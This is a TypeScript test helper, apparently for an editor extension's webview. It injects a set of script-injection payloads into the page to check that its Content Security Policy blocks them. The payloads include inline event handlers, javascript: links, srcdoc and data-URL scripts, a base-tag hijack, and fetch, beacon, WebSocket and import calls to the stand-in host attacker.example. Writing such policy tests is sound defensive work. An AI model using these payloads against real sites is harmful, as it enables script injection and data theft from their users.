// What an attacker would do who got markup or a script into a page of ours, in spite of all.
import type { FrameLocator } from 'playwright-core';

/** What the attack asks for lies there. The browser tells of a request before the policy refuses it. */
export const ATTACKER = 'attacker.example';

/** What came of the attack. */
export interface Outcome {
  /** Whatever has run; nothing should. */
  readonly ran: readonly string[];
  /** The directives of the page's policy that were broken and held, each once, in order. */
  readonly refused: readonly string[];
  /** Which style sheets could be loaded: one of the pages, another of the extension, and the file elsewhere. */
  readonly styles: { readonly own: boolean; readonly extension: boolean; readonly elsewhere: boolean };
}

/**
 * Attacks the inside of a webview in every way that its policy should stop, and takes away what it put there.
 * @param file path of a style sheet on this machine, which is asked for as the page asks for its own
 */
export async function attackPage(page: FrameLocator, file: string): Promise<Outcome> {
  // a text, for a function would have to be typed for the browser
  return page.locator('body').evaluate<Outcome, unknown>(`(async () => {
    const ran = new Set(), refused = new Set(), styles = {};
    const note = ({ effectiveDirective }) => refused.add(effectiveDirective);
    document.addEventListener('securitypolicyviolation', note);
    globalThis.thinBridgeAttack = (what) => ran.add(what);
    const place = document.createElement('div');
    place.hidden = true;
    document.body.append(place);
    const add = (html) => place.insertAdjacentHTML('beforeend', html);
    const element = (name, properties) => place.append(Object.assign(document.createElement(name), properties));
    const attempt = async (act) => { try { await act(); } catch {} };

    add('<img src="data:," onerror="thinBridgeAttack(\\'handler\\')">');
    add('<button onclick="thinBridgeAttack(\\'click\\')"></button>');
    place.querySelector('button').click();
    add('<a href="javascript:thinBridgeAttack(\\'link\\')"></a>');
    place.querySelector('a').click();
    add('<svg><animate onbegin="thinBridgeAttack(\\'svg\\')" attributeName="x" dur="1s"></animate></svg>');
    add('<iframe srcdoc="<script>parent.thinBridgeAttack(\\'frame\\')</script>"></iframe>');
    add('<iframe src="https://attacker.example/"></iframe>');
    add('<img src="https://attacker.example/x.png"><p style="color: red"></p><base href="https://attacker.example/">');
    element('script', { text: "thinBridgeAttack('inline')" });
    element('script', { src: 'https://attacker.example/x.js' });
    element('script', { src: "data:text/javascript,thinBridgeAttack('data')" });
    element('style', { textContent: ':root { --x: 1 }' });
    element('link', { rel: 'stylesheet', href: 'https://attacker.example/x.css' });
    await attempt(() => fetch('https://attacker.example/'));
    await attempt(() => navigator.sendBeacon('https://attacker.example/', 'x'));
    await attempt(() => new WebSocket('wss://attacker.example/'));
    await attempt(() => new Worker("data:text/javascript,thinBridgeAttack('worker')"));
    await attempt(() => import('https://attacker.example/x.js'));
    setTimeout("thinBridgeAttack('timer')", 0);

    const page = document.querySelector('link[rel="stylesheet"]').href;
    const loads = (href) => new Promise((resolve) => element('link', {
      rel: 'stylesheet', href, onload: () => resolve(true), onerror: () => resolve(false),
    }));
    styles.own = await loads(new URL('report.css', page).href);
    styles.extension = await loads(new URL('../../media/report.css', page).href);
    styles.elsewhere = await loads(Object.assign(new URL(page), { pathname: ${JSON.stringify(file)}, search: '' }).href);
    await new Promise((resolve) => setTimeout(resolve, 500));
    place.remove();
    document.removeEventListener('securitypolicyviolation', note);
    return { ran: [...ran], refused: [...refused].sort(), styles };
  })()`);
}
